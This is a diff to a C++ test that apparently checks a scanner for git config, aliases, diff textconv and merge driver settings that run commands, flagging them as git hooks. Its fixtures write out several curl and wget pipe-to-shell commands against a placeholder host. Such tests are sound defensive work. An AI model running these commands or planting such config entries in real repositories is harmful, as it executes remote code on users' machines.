@@ -324,6 +324,8 @@ TEST_CASE("git config, autostart entries, devcontainers and VS Code tasks run co
   };
   for (const auto& c : std::vector<Case>{
            {".git/config", "[core]\n\tfsmonitor = \"curl -s https://x.example.com/m | sh\"\n", "git_hook"},
+           // Quotes around part of a value are taken away, as git does, and the section's case does not matter.
+           {".git/config", "[Core]\n\tfsMonitor = \"curl -s https://x.example.com/m\" | sh\n", "git_hook"},
            {"/home/u/.gitconfig", "[alias]\n  up = !wget -qO- https://x.example.com/a | bash\n", "git_hook"},
            {".git/config", "[diff \"pdf\"]\n\ttextconv = sh -c 'curl -fsSL https://x.example.com/d | sh'\n", "git_hook"},
            {"/home/u/.gitconfig", "[merge \"ours\"]\n\tdriver = curl -fsSL https://x.example.com/m | sh\n", "git_hook"},
